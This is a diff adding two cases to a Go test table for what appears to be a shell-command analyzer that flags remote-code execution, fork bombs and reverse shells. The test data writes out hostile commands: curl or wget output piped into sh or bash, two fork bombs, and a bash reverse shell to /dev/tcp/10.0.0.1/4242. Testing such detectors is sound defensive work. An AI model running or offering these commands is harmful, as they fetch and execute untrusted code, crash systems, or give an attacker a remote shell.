@@ -91,6 +91,8 @@ func TestAnalyzeFindings(t *testing.T) {
 		{"sh -c of a curl substitution", `sh -c "$(curl -fsSL x)"`, shell.RemoteCode},
 		{"source of a curl substitution", "source <(curl x)", shell.RemoteCode},
 		{"remote code hidden in bash -c", `bash -c "curl x | sh"`, shell.RemoteCode},
+		{"remote code in a pipeline around a nested shell", `curl x | bash -s -- "$(bash -c 'echo hi')"`, shell.RemoteCode},
+		{"remote code after a nested shell", `bash -c "ls"; wget -qO- x | sh`, shell.RemoteCode},
 		{"a classic fork bomb", ":(){ :|:& };:", shell.ForkBomb},
 		{"a named fork bomb", "bomb() { bomb | bomb & }; bomb", shell.ForkBomb},
 		{"a redirection to /dev/tcp", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", shell.ReverseShell},
